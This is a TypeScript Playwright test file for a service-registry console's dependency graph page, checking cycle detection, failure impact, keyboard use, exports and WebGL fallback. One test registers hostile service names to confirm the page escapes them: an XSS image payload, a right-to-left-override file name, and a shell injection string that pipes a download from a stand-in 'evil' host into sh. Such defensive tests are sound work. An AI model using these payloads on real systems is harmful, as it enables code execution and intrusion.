import type { Page } from 'playwright-core'
import { describe, expect } from 'vitest'
import { itInBrowser, withConsole } from './browser/with-console.ts'

describe('console: the page Graph', () => {
  itInBrowser('begins with the problems, and says how much of the graph it shows', () =>
    withConsole(async ({ page, open, checkAccessible, picture }) => {
      await open('graph')
      await drawn(page)
      // The demo has one group of 18 services that need each other; a shortest cycle has four.
      expect(await page.locator('.graph-sentence').textContent()).toBe('1 cycle of dependencies.')
      expect(await page.locator('.board-shown').textContent()).toBe('4 of 28 shown')
      expect(await labels(page)).toEqual(['ad', 'frontend', 'frontend-proxy', 'otel-collector'])
      expect(await page.locator('.edge.strong').count()).toBe(4)
      await page.getByRole('button', { name: '18 nodes need each other' }).click()
      await page.getByRole('region', { name: 'About ad' }).waitFor()
      await checkAccessible()
      await picture('graph-problems')
    }),
  )

  itInBrowser('says who breaks if a service fails, in steps by distance, as a drawing and as a table', () =>
    withConsole(async ({ page, open, picture }) => {
      await open('graph')
      await drawn(page)
      await page.getByRole('combobox', { name: 'Search in the graph' }).fill('flag')
      await page.getByRole('option', { name: /^flagd service/ }).click()
      await page.getByRole('link', { name: 'Who breaks' }).first().click()
      await page.locator('.graph-sentence', { hasText: 'If flagd fails, 21 nodes may break' }).waitFor()
      await page.locator('[data-drawn="22"]').waitFor()
      expect(new URL(page.url()).searchParams.get('show')).toBe('impact')
      expect(await page.locator('.heading').allTextContents()).toEqual(['3 steps', '2 steps', '1 step', ''])
      // Whoever breaks stands left of what it needs.
      expect(await xOf(page, 'service:cart')).toBeLessThan(await xOf(page, 'service:flagd'))
      const rows = page.getByRole('region', { name: 'Nodes as a table' }).locator('tbody tr')
      expect(await rows.count()).toBe(22)
      expect(await rows.first().textContent()).toContain('flagd')
      await page.getByRole('columnheader', { name: 'Needed by' }).getByRole('button').click()
      expect(await rows.last().textContent()).toContain('otel-collector')
      await picture('graph-impact')
    }),
  )

  itInBrowser(
    'is drawn, too, where the script that lays it out arrives only when it is asked for again',
    () =>
      withConsole(async ({ page, open }) => {
        let asked = 0
        await page.route(/layout-worker/, (route) => {
          asked += 1
          return asked === 1 ? route.abort('connectionreset') : route.continue()
        })
        await open('graph?of=cart')
        await page.locator('[data-drawn="6"]').waitFor()
        expect(asked).toBe(2)
        expect(await page.locator('.drawing-fault').count()).toBe(0)
      }),
  )

  itInBrowser('is worked by keyboard alone: to a node, along the arrows, and into its panel', () =>
    withConsole(async ({ page, open }) => {
      await open('graph?of=cart')
      await drawn(page)
      const cart = page.getByRole('button', { name: /^cart 3.0.0, service, .*needs 3, needed by 2/ })
      await cart.focus()
      // One stop for the Tab key: from there the arrow keys lead on.
      expect(await page.locator('.node[tabindex="0"]').count()).toBe(1)
      await page.keyboard.press('ArrowRight')
      const next = await page.evaluate(() => document.activeElement?.getAttribute('data-node'))
      expect(next).not.toBe('service:cart')
      expect(await xOf(page, String(next))).toBeGreaterThan(await xOf(page, 'service:cart'))
      await page.keyboard.press('Enter')
      await page.locator('.node.selected').waitFor()
      expect(new URL(page.url()).searchParams.get('selected')).toBe(next)
      await page.keyboard.press('Escape')
      await expect.poll(() => page.locator('.node.selected').count()).toBe(0)
      const scale = () => page.locator('.world').getAttribute('transform')
      const before = await scale()
      await page.keyboard.press('+')
      expect(await scale()).not.toBe(before)
    }),
  )

  itInBrowser('opens the hidden neighbours of a node, and keeps that in the address', () =>
    withConsole(async ({ page, open }) => {
      await open('graph?of=valkey-cart')
      await page.locator('[data-drawn="2"]').waitFor()
      await page.getByRole('button', { name: 'Show 4 more beside cart' }).click()
      await page.locator('[data-drawn="6"]').waitFor()
      expect(new URL(page.url()).searchParams.getAll('open')).toEqual(['service:cart'])
      await page.reload()
      await page.locator('[data-drawn="6"]').waitFor()
    }),
  )

  itInBrowser('shows the paths between two nodes, with the shortest one stressed', () =>
    withConsole(async ({ page, open, picture }) => {
      await open('graph?show=paths&of=load-generator&to=astronomy-db')
      await drawn(page)
      await page.locator('.graph-sentence', { hasText: 'load-generator needs astronomy-db in' }).waitFor()
      expect(await page.locator('.edge.strong').count()).toBe(2)
      expect(await page.locator('.node.strong').count()).toBe(3)
      await picture('graph-paths')
    }),
  )

  itInBrowser('says which node does not exist, with the code and what to do', () =>
    withConsole(async ({ page, open, faults }) => {
      faults.expect(/status of 404/)
      await open('graph?of=kart')
      await page.getByRole('alert').filter({ hasText: 'COORD_NODE_NOT_FOUND' }).waitFor()
    }),
  )

  itInBrowser('shows an asserted node, a table and a missing service as what they are', () =>
    withConsole(async ({ server, page, open }) => {
      const put = (path: string) => server.ask(path, { method: 'PUT', json: {} })
      await put('/knowledge-graph/nodes/team:shop')
      await put('/knowledge-graph/edges/team:shop,owns,service:cart')
      await server.ask('/register', {
        json: { ...cart, serviceName: 'new', dependencies: ['cart', 'nobody'] },
      })
      await open('graph?of=new&depth=2')
      await drawn(page)
      expect(await page.locator('[data-node="service:nobody"].unresolved').count()).toBe(1)
      expect(await page.locator('[data-edge*="service:nobody"].unresolved').count()).toBe(1)
      expect(await page.locator('[data-origin="asserted"]').getAttribute('data-type')).toBe('owns')
      // The service needs its owner: the owner stands at the right.
      expect(await xOf(page, 'team:shop')).toBeGreaterThan(await xOf(page, 'service:cart'))
      await page.getByLabel('Colour by').selectOption('owner')
      await page.locator('.legend', { hasText: 'shop (1)' }).waitFor()
    }),
  )

  itInBrowser('runs nothing that a name contains, and shows signs that cannot be seen', () =>
    withConsole(
      async ({ server, page, open, checkAccessible, picture }) => {
        const names = ['<img src=x onerror=alert(1)>', '\u202egnp.exe', '😀'.repeat(120), `'; curl evil|sh #`]
        for (const [at, serviceName] of names.entries())
          await server.ask('/register', { json: { ...cart, serviceName, dependencies: names.slice(0, at) } })
        page.on('dialog', () => expect.fail('A script of a name ran.'))
        await open('graph?show=problems')
        await drawn(page)
        await open('graph?show=map&groupBy=none')
        await drawn(page)
        await open(`graph?show=dependencies&of=${encodeURIComponent(names[3] as string)}`)
        await page.locator('[data-drawn="4"]').waitFor()
        expect(await page.locator('img[src="x"]').count()).toBe(0)
        const shown = await labels(page)
        expect(shown.some((label) => label.startsWith('<img src=x o'))).toBe(true)
        expect(shown).toContain('\ufffdgnp.exe')
        for (const [id, right] of Object.entries(await boxEnds(page))) expect(right, id).toBe(true)
        await checkAccessible()
        await picture('graph-hostile')
      },
      { records: 'none' },
    ),
  )

  itInBrowser('teaches the first registration where nothing is registered', () =>
    withConsole(
      async ({ page, open, url, checkAccessible }) => {
        await open('graph')
        await page.locator('.copy-text', { hasText: `curl ${url}/register` }).waitFor()
        await checkAccessible()
      },
      { records: 'none' },
    ),
  )

  itInBrowser('saves the drawing as SVG and the graph in every format', () =>
    withConsole(async ({ page, open }) => {
      await open('graph?of=cart')
      await drawn(page)
      const saved = async (name: string) => {
        const button = page.getByRole('button', { name, exact: true })
        if (!(await button.isVisible())) await page.getByText('Save', { exact: true }).click()
        const [file] = await Promise.all([page.waitForEvent('download'), button.click()])
        const chunks: Buffer[] = []
        for await (const chunk of await file.createReadStream()) chunks.push(chunk as Buffer)
        return Buffer.concat(chunks).toString()
      }
      const svg = await saved('This drawing as SVG')
      expect(svg).toContain('>valkey-cart</text>')
      // Colours are in the file: it has no style sheet.
      expect(svg).toMatch(/<rect[^>]*fill="rgb\(/)
      expect(svg).not.toContain('class=')
      expect(await saved('DOT (Graphviz)')).toContain('digraph')
      expect(JSON.parse(await saved('JSON')).knowledgeGraph.nodes).toHaveLength(6)
    }),
  )
})

describe('console: the map of the graph', () => {
  itInBrowser('begins with groups, opens them one by one, and has the same as tables', () =>
    withConsole(async ({ page, open, checkAccessible, picture }) => {
      await open('graph?show=map&groupBy=tag')
      await page.locator('.map-view[data-drawn="4"]').waitFor()
      expect(await page.locator('.map canvas').count()).toBeGreaterThan(3)
      await page
        .getByRole('region', { name: 'Groups as a table' })
        .getByRole('button', { name: 'database' })
        .click()
      await page.locator('.map-view[data-drawn="5"]').waitFor()
      expect(await page.locator('.board-shown').textContent()).toContain(
        '2 of 28 shown, the others in 3 groups',
      )
      await page
        .getByRole('region', { name: 'Nodes as a table' })
        .getByRole('button', { name: 'astronomy-db' })
        .click()
      await page.getByRole('region', { name: 'About astronomy-db' }).waitFor()
      await checkAccessible()
      await picture('graph-map')
    }),
  )

  itInBrowser('says that the browser has no WebGL, and shows the tables', () =>
    withConsole(
      async ({ page, open }) => {
        await open('graph?show=map&groupBy=tag')
        await page.getByRole('alert').filter({ hasText: 'no WebGL' }).waitFor()
        expect(
          await page.getByRole('region', { name: 'Groups as a table' }).locator('tbody tr').count(),
        ).toBe(4)
      },
      { args: ['--disable-gpu', '--disable-software-rasterizer'] },
    ),
  )
})

const cart = { version: '1.0.0', endpoint: 'http://cart:8080' }

async function drawn(page: Page): Promise<void> {
  await page.locator('[data-drawn]:not([data-drawn="0"])').waitFor()
}

async function labels(page: Page): Promise<string[]> {
  return (await page.locator('.node .label').allTextContents()).sort()
}

async function xOf(page: Page, id: string): Promise<number> {
  const box = await page.locator(`[data-node=${JSON.stringify(id)}] .box`).boundingBox()
  return box?.x ?? Number.NaN
}

/** Whether the words of each box end within it. */
function boxEnds(page: Page): Promise<Record<string, boolean>> {
  return page.evaluate(() =>
    Object.fromEntries(
      [...document.querySelectorAll('.node')].map((node) => {
        const [label, box] = ['.label', '.box'].map((part) =>
          node.querySelector(part)?.getBoundingClientRect(),
        )
        return [node.getAttribute('data-node') ?? '', (label?.right ?? 0) <= (box?.right ?? 0)]
      }),
    ),
  )
}
